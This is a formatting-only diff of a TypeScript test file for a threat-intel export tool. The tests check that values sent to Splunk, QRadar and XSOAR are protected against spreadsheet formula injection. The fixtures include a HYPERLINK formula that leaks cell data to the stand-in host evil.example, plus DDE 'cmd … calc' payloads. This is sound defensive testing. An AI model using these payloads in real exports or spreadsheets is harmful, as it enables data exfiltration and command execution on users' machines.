@@ -14,13 +14,38 @@ import { DeadLetterFile } from '../src/delivery/dead-letter.js';
 import type { StixObject } from '../src/core/stix.js';
 import { indicator, mappedRecords } from './helpers/sink-kit.js';
 import { splunkKvSink, splunkEsSink, splunkHecSink } from '../integrations/splunk/index.js';
-import { commonConfig as splunkCommon, ictx as splunkIctx, JWT, HEC_TOKEN, runContext as splunkRun, startSim as startSplunk } from '../integrations/splunk/sink-test-kit.js';
+import {
+  commonConfig as splunkCommon,
+  ictx as splunkIctx,
+  JWT,
+  HEC_TOKEN,
+  runContext as splunkRun,
+  startSim as startSplunk,
+} from '../integrations/splunk/sink-test-kit.js';
 import { createQradarSink } from '../integrations/qradar/sink.js';
-import { config as qradarConfig, ictx as qradarIctx, runContext as qradarRun, startSim as startQradar } from '../integrations/qradar/test-kit.js';
+import {
+  config as qradarConfig,
+  ictx as qradarIctx,
+  runContext as qradarRun,
+  startSim as startQradar,
+} from '../integrations/qradar/test-kit.js';
 import { xsoarSink } from '../integrations/xsoar/index.js';
-import { config as xsoarConfig, ictx as xsoarIctx, runContext as xsoarRun, startSim as startXsoar } from '../integrations/xsoar/test-kit.js';
+import {
+  config as xsoarConfig,
+  ictx as xsoarIctx,
+  runContext as xsoarRun,
+  startSim as startXsoar,
+} from '../integrations/xsoar/test-kit.js';
 
-const LABELS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1)', '-2+3+cmd|\' /C calc\'!A0', '+1', '\tTAB', '\rCR', 'benign'];
+const LABELS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '@SUM(1)',
+  "-2+3+cmd|' /C calc'!A0",
+  '+1',
+  '\tTAB',
+  '\rCR',
+  'benign',
+];
 const NEUTRAL = LABELS.map((l) => (l === 'benign' ? l : `'${l}`));
 const NAME = '=1+1';
 
@@ -29,8 +54,13 @@ function hostile(value: string): StixObject {
 }
 
 /** Records of an object taken as a sink's view at TLP:CLEAR (src/access makes views; these tests need none). */
-const recordsOf = (o: StixObject, seq: number, op: 'upsert' | 'remove', reason: string | undefined, m: Record<string, string>) =>
-  recordsFor(o, seq, op, reason, m, factsOf(o, 'clear'));
+const recordsOf = (
+  o: StixObject,
+  seq: number,
+  op: 'upsert' | 'remove',
+  reason: string | undefined,
+  m: Record<string, string>,
+) => recordsFor(o, seq, op, reason, m, factsOf(o, 'clear'));
 
 test('F4/A15 neutraliseFormula: OWASP triggers prefixed with a quote; other text and idempotence', () => {
   assert.deepEqual(LABELS.map(neutraliseFormula), NEUTRAL);
@@ -46,7 +76,14 @@ test('F4/A15 neutraliseFormula: OWASP triggers prefixed with a quote; other text
 
 test('F4/A15 sink records: every mapped string neutralised (lists element-wise, CSV joins per label); the object itself untouched', () => {
   const obj = hostile('198.51.100.7');
-  const [r] = recordsOf(obj, 1, 'upsert', undefined, { l: 'labels', c: 'labels_csv', n: 'name', d: 'description', v: 'value', k: '=const' });
+  const [r] = recordsOf(obj, 1, 'upsert', undefined, {
+    l: 'labels',
+    c: 'labels_csv',
+    n: 'name',
+    d: 'description',
+    v: 'value',
+    k: '=const',
+  });
   assert.deepEqual(r!.fields.l, NEUTRAL);
   assert.equal(r!.fields.c, NEUTRAL.join(','));
   assert.equal(r!.fields.n, "'=1+1");
@@ -66,7 +103,21 @@ test('F4/A15 sink records: every mapped string neutralised (lists element-wise, 
 test('F4/A15 splunk_kv: labels, name and description arrive neutralised in the stored KV document', async (t) => {
   const { sim, base } = await startSplunk(t);
   const ctx = splunkRun(t);
-  const sink = splunkKvSink.create({ ...splunkCommon('splunk_kv'), url: base, auth: { bearer_token: JWT }, owner: 'nobody', app: 'stixgate', collection: 'ti', max_documents_per_batch_save: 1000, max_keys_per_delete: 50, enforce_types: false, replicate: false }, splunkIctx);
+  const sink = splunkKvSink.create(
+    {
+      ...splunkCommon('splunk_kv'),
+      url: base,
+      auth: { bearer_token: JWT },
+      owner: 'nobody',
+      app: 'stixgate',
+      collection: 'ti',
+      max_documents_per_batch_save: 1000,
+      max_keys_per_delete: 50,
+      enforce_types: false,
+      replicate: false,
+    },
+    splunkIctx,
+  );
   await sink.prepare!(ctx);
   const out = await sink.upsert(mappedRecords('splunk_kv', [hostile('198.51.100.7')]), ctx);
   assert.deepEqual(out, [{ status: 'ok' }]);
@@ -80,24 +131,45 @@ test('F4/A15 splunk_kv: labels, name and description arrive neutralised in the s
 test('F4/A15 splunk_es: the threat-intel document carries neutralised text fields', async (t) => {
   const { sim, base } = await startSplunk(t);
   const ctx = splunkRun(t);
-  const sink = splunkEsSink.create({ ...splunkCommon('splunk_es'), url: base, auth: { bearer_token: JWT }, owner: 'nobody', app: 'DA-ESS-ThreatIntelligence', max_documents_per_batch_save: 1000, max_keys_per_delete: 50 }, splunkIctx);
+  const sink = splunkEsSink.create(
+    {
+      ...splunkCommon('splunk_es'),
+      url: base,
+      auth: { bearer_token: JWT },
+      owner: 'nobody',
+      app: 'DA-ESS-ThreatIntelligence',
+      max_documents_per_batch_save: 1000,
+      max_keys_per_delete: 50,
+    },
+    splunkIctx,
+  );
   await sink.prepare?.(ctx);
   assert.deepEqual(await sink.upsert(mappedRecords('splunk_es', [hostile('198.51.100.8')]), ctx), [{ status: 'ok' }]);
   const [doc] = sim.documents('DA-ESS-ThreatIntelligence', 'ip_intel');
   const strings = Object.values(doc!).filter((v): v is string => typeof v === 'string');
-  assert.ok(strings.some((v) => v.startsWith("'")), JSON.stringify(doc));
+  assert.ok(
+    strings.some((v) => v.startsWith("'")),
+    JSON.stringify(doc),
+  );
   for (const v of strings) assert.ok(!/^[=+\-@\t\r]/.test(v), `field value ${JSON.stringify(v)} is formula-like`);
 });
 
 test('F4/A15 splunk_hec: event fields neutralised', async (t) => {
   const { sim, base } = await startSplunk(t);
   const ctx = splunkRun(t);
-  const sink = splunkHecSink.create({ ...splunkCommon('splunk_hec'), url: base, token: HEC_TOKEN } as never, splunkIctx);
+  const sink = splunkHecSink.create(
+    { ...splunkCommon('splunk_hec'), url: base, token: HEC_TOKEN } as never,
+    splunkIctx,
+  );
   assert.deepEqual(await sink.upsert(mappedRecords('splunk_hec', [hostile('198.51.100.9')]), ctx), [{ status: 'ok' }]);
   const [ev] = sim.events();
   const event = ev!.event as Record<string, unknown>;
   const flat = JSON.stringify(event);
-  assert.ok(flat.includes(JSON.stringify("'@SUM(1)").slice(1, -1)) || Object.values(event).some((v) => Array.isArray(v) && v.includes("'@SUM(1)")), flat);
+  assert.ok(
+    flat.includes(JSON.stringify("'@SUM(1)").slice(1, -1)) ||
+      Object.values(event).some((v) => Array.isArray(v) && v.includes("'@SUM(1)")),
+    flat,
+  );
   const visit = (v: unknown): void => {
     if (typeof v === 'string') assert.ok(!/^[=+\-@\t\r]/.test(v), `HEC value ${JSON.stringify(v)} is formula-like`);
     else if (Array.isArray(v)) v.forEach(visit);
@@ -111,7 +183,10 @@ test('F4/A15 qradar: a formula-like e-mail value and a labels-mapped notes field
   const ctx = qradarRun(t);
   const sink = createQradarSink(qradarConfig(base), qradarIctx);
   await sink.prepare!(ctx);
-  const recs = recordsOf(hostile("=cmd|'calc'!a0@evil.example"), 1, 'upsert', undefined, { source: '=stixgate', notes: 'labels_csv' });
+  const recs = recordsOf(hostile("=cmd|'calc'!a0@evil.example"), 1, 'upsert', undefined, {
+    source: '=stixgate',
+    notes: 'labels_csv',
+  });
   assert.deepEqual(await sink.upsert(recs, ctx), [{ status: 'ok' }]);
   const [el] = sim.elements('stixgate - Email Addresses');
   assert.equal(el!.value, "'=cmd|'calc'!a0@evil.example");
